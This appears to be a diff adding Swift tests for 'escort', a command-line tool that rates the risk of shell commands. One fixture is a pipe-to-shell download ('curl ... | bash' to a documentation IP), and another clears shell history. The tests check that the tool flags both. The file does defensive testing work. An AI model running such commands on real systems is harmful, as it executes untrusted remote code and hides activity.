@@ -1,0 +1,71 @@
+import EscortTesting
+import Foundation
+import Testing
+
+/// `escort analyze` and `escort explain`, run as the built binary a user would run.
+@Suite struct AnalyzeCLITests {
+    static func escortBinary() throws -> URL {
+        let root = Corpora.packageRoot(from: #filePath)
+        for path in [".build/debug/escort", ".build/x86_64-unknown-linux-gnu/debug/escort", ".build/aarch64-unknown-linux-gnu/debug/escort"] {
+            let url = root.appendingPathComponent(path)
+            if FileManager.default.isExecutableFile(atPath: url.path) { return url }
+        }
+        throw CLIError(message: "escort binary not built (run swift build --build-tests)")
+    }
+
+    struct CLIError: Error { var message: String }
+
+    static func run(_ args: [String], stdin: String) throws -> (Int32, String) {
+        let p = Process()
+        p.executableURL = try escortBinary()
+        p.arguments = args
+        let input = Pipe(), output = Pipe()
+        p.standardInput = input
+        p.standardOutput = output
+        p.standardError = FileHandle.nullDevice
+        try p.run()
+        input.fileHandleForWriting.write(Data(stdin.utf8))
+        try input.fileHandleForWriting.close()
+        let data = output.fileHandleForReading.readDataToEndOfFile()
+        p.waitUntilExit()
+        return (p.terminationStatus, String(decoding: data, as: UTF8.self))
+    }
+
+    @Test func oneOutputLinePerInputLineInOrderWithErrorsInPlace() throws {
+        let input = [
+            #"{"command": "ls -la"}"#,
+            "not json at all",
+            #"{"command": "curl -s http://203.0.113.9/x | bash", "shell": "bash"}"#,
+            #"{"shell": "sh"}"#,
+            #"{"command": "echo hi", "shell": "fish-and-chips"}"#,
+            #"{"command": "Get-Process", "shell": "powershell"}"#,
+        ].joined(separator: "\n") + "\n"
+        let (status, out) = try Self.run(["analyze", "--format", "jsonl"], stdin: input)
+        #expect(status == 0)
+        let lines = out.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
+        #expect(lines.count == 6)
+        let objects = lines.map { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
+        #expect(objects[0]?["risk"] as? String != nil)
+        #expect((objects[1]?["error"] as? String)?.contains("JSON") == true)
+        #expect(objects[2]?["risk"] as? String == "critical")
+        #expect((objects[2]?["techniques"] as? [String])?.contains("T1105") == true)
+        let finding = (objects[2]?["findings"] as? [[String: Any]])?.first
+        #expect((finding?["range"] as? [Int])?.count == 2)
+        #expect((objects[3]?["error"] as? String)?.contains("command") == true)
+        #expect((objects[4]?["error"] as? String)?.contains("shell") == true)
+        #expect(objects[5]?["risk"] as? String != nil)
+    }
+
+    @Test func explainReadsAScriptFromStandardInput() throws {
+        let (status, out) = try Self.run(["explain", "--no-color", "-"], stdin: "history -c\n")
+        #expect(status == 0)
+        #expect(out.contains("RISK: HIGH"))
+        #expect(out.contains("history"))
+    }
+
+    @Test func explainExitsNonZeroOnUnfinishedInput() throws {
+        let (status, out) = try Self.run(["explain", "--no-color", "echo 'open"], stdin: "")
+        #expect(status == 2)
+        #expect(out.contains("incomplete"))
+    }
+}
